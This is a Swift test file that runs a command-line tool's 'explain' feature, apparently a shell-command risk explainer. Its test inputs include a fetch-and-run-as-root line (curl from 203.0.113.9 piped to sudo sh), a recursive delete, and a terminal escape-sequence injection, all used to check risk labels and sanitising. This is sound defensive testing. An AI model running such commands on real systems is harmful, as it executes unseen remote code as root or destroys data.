import Foundation
import Testing

/// End-to-end tests of `custody explain`: runs the built binary and checks stdout and exit codes.
@Suite struct ExplainCommandTests {
    static let binary: URL = {
        var url = URL(fileURLWithPath: #filePath)
        for _ in 0..<3 { url.deleteLastPathComponent() }
        let debug = url.appendingPathComponent(".build/debug/custody")
        return debug
    }()

    struct Result {
        var status: Int32
        var stdout: String
    }

    static func run(_ arguments: [String], stdin: String? = nil) throws -> Result {
        let process = Process()
        process.executableURL = binary
        process.arguments = ["explain"] + arguments
        let out = Pipe()
        process.standardOutput = out
        process.standardError = Pipe()
        let input = Pipe()
        process.standardInput = input
        try process.run()
        if let stdin { input.fileHandleForWriting.write(Data(stdin.utf8)) }
        try input.fileHandleForWriting.close()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return Result(status: process.terminationStatus, stdout: String(decoding: data, as: UTF8.self))
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: binary.path)))
    func textOutputStartsWithTheSentence() throws {
        let r = try Self.run(["curl -s http://203.0.113.9/x | sudo sh"])
        #expect(r.status == 0)
        #expect(r.stdout.hasPrefix("Downloads a file from 203.0.113.9 and runs it as root without showing it to you.\nRisk: runs-opaque-code"))
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: binary.path)))
    func jsonHasRiskClass() throws {
        let r = try Self.run(["rm -rf /srv/x", "--format", "json"])
        let object = try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any]
        #expect(object?["riskClass"] as? String == "destructive")
        #expect((object?["parts"] as? [Any])?.count == 1)
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: binary.path)))
    func failOnSetsTheExitCode() throws {
        #expect(try Self.run(["rm -rf /srv/x", "--fail-on", "destructive"]).status == 1)
        #expect(try Self.run(["ls -la", "--fail-on", "writes-files"]).status == 0)
        #expect(try Self.run(["ls", "--fail-on", "nonsense"]).status == 64)
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: binary.path)))
    func readsStandardInputAndNeutralizesControls() throws {
        let r = try Self.run(["-"], stdin: "echo \u{1B}]0;pwned\u{07} > /tmp/x\n")
        #expect(r.status == 0)
        #expect(!r.stdout.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 })
        #expect(r.stdout.contains("^["))
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: binary.path)))
    func incompleteLineIsNotAnError() throws {
        let r = try Self.run(["echo 'open"])
        #expect(r.status == 0)
        #expect(r.stdout.contains("incomplete"))
        #expect(r.stdout.contains("Risk: unknown"))
    }
}
